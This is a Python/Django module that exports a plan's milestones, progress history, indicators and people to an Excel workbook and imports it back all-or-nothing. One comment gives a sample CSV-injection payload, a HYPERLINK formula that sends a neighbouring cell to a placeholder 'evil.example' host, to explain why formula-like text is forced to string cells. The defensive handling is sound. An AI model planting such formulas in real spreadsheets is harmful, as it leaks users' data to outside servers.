"""Plan export to .xlsx, and the workbook import that reads it back (milestones, progress
history, indicators and their figures) in one all-or-nothing transaction."""

import io

from django.db import transaction
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from indicators import importing as indicator_importing
from indicators.models import Commentary, Indicator, IndicatorValue, IndicatorYear
from milestones import importing as plan_importing
from milestones.models import Milestone, ProgressUpdate, SlippageRecord
from plans.importing import ImportRefused, Problem
from plans.models import Person, Plan
from safeguarding import dates
from safeguarding.text import strip_control_characters

MILESTONE_HEADER = [
    "Ref",
    "Action",
    "Action Lead",
    "Milestones",
    "Planned Start Date",
    "Due Date",
    "Status",
    "Progress Note",
    "Milestone Lead",
    "Theme",
    "Outcome",
    "Source",
    "Lead Email",
    "Agency",
    "Revised Due Date",
    "Theme Description",
]


# A text cell starting with one of these is read as a formula by spreadsheet programs (OWASP
# "CSV injection"): =HYPERLINK("http://evil.example/?leak="&A2, "Click") in a progress note would
# send the next cell to someone else's server when clicked.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _text_cell(sheet, value):
    """Text as a cell that can only ever be text.

    Control characters are stripped (openpyxl refuses them, and one stored before they were
    refused must not break every export). Text that a spreadsheet would read as a formula is
    written as a string cell (data type 's', never 'f'), with Excel's own "quote prefix" style
    so that editing the cell in Excel keeps it text. The text itself is not changed (no
    leading apostrophe added): importing the export gives back exactly what was written, and
    a note that really starts with '-' or '=' is shown as its author wrote it.
    """
    value = strip_control_characters(value)
    cell = WriteOnlyCell(sheet, value)
    if value.startswith(FORMULA_STARTS):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def _safe_row(sheet, row):
    return [_text_cell(sheet, value) if isinstance(value, str) else value for value in row]


def _sheet(workbook, title, header, rows, first=False):
    sheet = workbook.active if first else workbook.create_sheet(title)
    sheet.title = title
    sheet.append(header)
    for c in sheet[1]:
        c.font = Font(bold=True)
    for row in rows:
        sheet.append(_safe_row(sheet, row))
    for n, name in enumerate(header, start=1):
        sheet.column_dimensions[get_column_letter(n)].width = min(60, max(12, len(name) + 2))
    sheet.freeze_panes = "A2"
    return sheet


def plan_export(plan) -> bytes:
    """Every record of a plan, in sheets its users' own tools read; the first sheet is the
    milestone report the importer reads back."""
    milestones = (
        Milestone.objects.for_plan(plan)
        .with_current_status()
        .with_leads()
        .order_by("action__ref_sort_key", "order", "id")
    )
    workbook = Workbook()
    _sheet(
        workbook,
        "Milestones",
        MILESTONE_HEADER,
        (
            [
                m.action.ref,
                m.action.title,
                m.action.action_lead.name,
                m.description,
                m.planned_start,
                m.due_date,
                plan.scheme.label(m.current_status),
                m.current_note,
                m.lead.name,
                m.action.theme.name,
                m.action.expected_outcome,
                m.action.sources,
                m.lead.email,
                m.lead.agency,
                m.revised_due_date,
                m.action.theme.description,
            ]
            for m in milestones
        ),
        first=True,
    )
    updates = ProgressUpdate.objects.filter(milestone__action__plan=plan).select_related("milestone__action", "author")
    _sheet(
        workbook,
        "Progress history",
        ["Ref", "Milestone", "Month", "Status", "Note", "Status reason", "Author", "Recorded at"],
        (
            [
                u.milestone.action.ref,
                u.milestone.description,
                u.reporting_month.strftime("%Y-%m"),
                plan.scheme.label(u.status),
                u.note,
                u.status_reason,
                u.author.username if u.author else "",
                u.created_at.replace(tzinfo=None),
            ]
            for u in updates.order_by(
                "milestone__action__ref_sort_key", "milestone__order", "reporting_month", "created_at"
            )
        ),
    )
    records = SlippageRecord.objects.filter(milestone__action__plan=plan).select_related("milestone__action")
    _sheet(
        workbook,
        "Exceptions",
        [
            "Action Ref",
            "Milestone",
            "Reason for Slippage",
            "Actions to Achieve Milestone",
            "Support Required",
            "Revised Completion Date",
            "Other Milestones Impacted",
            "Replaced Due Date",
            "Recorded at",
        ],
        (
            [
                r.milestone.action.ref,
                r.milestone.description,
                r.reason_for_slippage,
                r.actions_to_achieve,
                r.support_required,
                r.revised_completion_date,
                r.other_milestones_impacted,
                r.replaced_due_date,
                r.created_at.replace(tzinfo=None),
            ]
            for r in records.order_by("milestone__action__ref_sort_key", "created_at")
        ),
    )
    indicators = Indicator.objects.for_plan(plan).select_related("section")
    _sheet(
        workbook,
        "Indicators",
        [c.title() for c in indicator_importing.DEFINITION_COLUMNS],
        (
            [
                i.code,
                i.title,
                i.definition,
                i.section.name,
                i.unit,
                i.polarity,
                i.frequency,
                "yes" if i.data_only else "no",
                i.ytd_method,
                i.decimal_places,
            ]
            for i in indicators
        ),
    )
    targets = {(y.indicator_id, y.year): y.target for y in IndicatorYear.objects.filter(indicator__plan=plan)}
    comments = {(c.indicator_id, c.period): c.commentary for c in Commentary.objects.filter(indicator__plan=plan)}
    values = (
        IndicatorValue.objects.filter(indicator__plan=plan)
        .select_related("indicator")
        .order_by("indicator__code_sort_key", "period")
    )
    _sheet(
        workbook,
        "Indicator values",
        ["Code", "Period", "Value", "Numerator", "Denominator", "Target", "Comment"],
        (
            [
                v.indicator.code,
                v.period.strftime("%Y-%m"),
                None if v.numerator is not None else v.value,
                v.numerator,
                v.denominator,
                targets.get((v.indicator_id, dates.financial_year(v.period))),
                comments.get((v.indicator_id, v.period), ""),
            ]
            for v in values
        ),
    )
    _sheet(
        workbook,
        "People",
        ["Name", "Job title", "Agency", "Organisation", "Email"],
        ([p.name, p.job_title, p.agency, p.organisation, p.email] for p in Person.objects.for_plan(plan)),
    )
    # The words the statuses above are written in, so an import of this file reads them back (a plan's
    # own labels included) and a plan made from it reports in the same scheme.
    _sheet(
        workbook,
        plan_importing.STATUS_KEY_SHEET,
        ["Status", "Means", "Colour", "Meaning"],
        ([e.label, e.status.label, e.colour, e.meaning] for e in plan.scheme.statuses),
    )
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def import_settings_of(plan_name, owner=None):
    """The mapping and options saved with a plan at its last import (None for a new plan)."""
    from .models import ImportSettings

    plans = Plan.objects.named(plan_name, owner)
    return ImportSettings.objects.filter(plan__in=plans).first() if len(plans[:2]) == 1 else None


def import_settings_save(*, actor, plan, parsed):
    """Keep the mapping used with the plan, for next month's import."""
    from django.utils import timezone

    from plans.services import permission_check

    from .models import ImportSettings

    permission_check(actor, "plans.change_plan", plan)
    settings, _ = ImportSettings.objects.get_or_create(plan=plan)
    settings.mapping = {**settings.mapping, **parsed.mapping}
    settings.sheet = parsed.sheet[:100] if parsed.sheet != "CSV" else ""
    settings.objectives_as = parsed.objectives_as
    # Objectives' full texts are kept on their themes now (Theme.description), not here.
    settings.updated_at = timezone.now()
    settings.full_clean()
    settings.save()
    return settings


def plan_parse(*, plan_name, filename, content, mapping=None, sheet=None, as_at=None, objectives_as=None, owner=None):
    """Read and map a file, using the mapping saved with the plan for headings not chosen now."""
    saved = import_settings_of(plan_name, owner)
    return plan_importing.parse_file(
        filename,
        content,
        sheet=sheet or None,
        chosen=mapping,
        saved=saved.mapping if saved else None,
        as_at=as_at,
        objectives_as=objectives_as or (saved.objectives_as if saved else "themes"),
        scheme=plan_importing.plan_scheme(plan_name, owner),
    )


def plan_workbook_import(
    *, plan_name, filename, content, dry_run=False, owner=None, author=None, parsed=None, **options
):
    """The plan's sheet (and, in an exported workbook, the history and indicator sheets), all or
    nothing. `parsed` is a preview's result, written without reading the file's plan sheet again;
    `options` are plan_parse's (mapping, sheet, as_at, objectives_as)."""
    with transaction.atomic():
        if parsed is None:
            parsed = plan_parse(plan_name=plan_name, filename=filename, content=content, owner=owner, **options)
        summary = plan_importing.parsed_write(parsed, plan_name=plan_name, owner=owner, author=author)
        summary.parsed = parsed
        summary.dry_run = dry_run
        plan = Plan.objects.named(plan_name, owner).get()
        import_settings_save(actor=author, plan=plan, parsed=parsed)
        if filename.lower().endswith(".xlsx") and "Indicators" in parsed.proposed_sheets:
            _, _, _, extra = plan_importing.read_table(filename, content)
            problems = []
            summary.indicators = indicator_importing.definitions_import(plan, extra.get("Indicators"), problems)
            if problems:
                raise ImportRefused(problems)
            if extra.get("Indicator values") and len(extra["Indicator values"]) > 1:
                try:
                    summary.indicator_values = indicator_importing.indicator_values_import(
                        plan=plan, rows=extra["Indicator values"]
                    )
                except ImportRefused as refused:
                    raise ImportRefused(
                        [Problem(p.row, f"Indicator values sheet, {p.column}", p.message) for p in refused.problems]
                    ) from refused
        if dry_run:
            transaction.set_rollback(True)
    return summary


def refusal(command, filename, refused):
    """For the import commands: every problem on stderr, then one line saying nothing changed."""
    from django.core.management.base import CommandError

    for problem in refused.problems:
        command.stderr.write(str(problem))
    return CommandError(
        f"{filename} was not imported: {len(refused.problems)} problem(s) listed above; nothing was changed."
    )
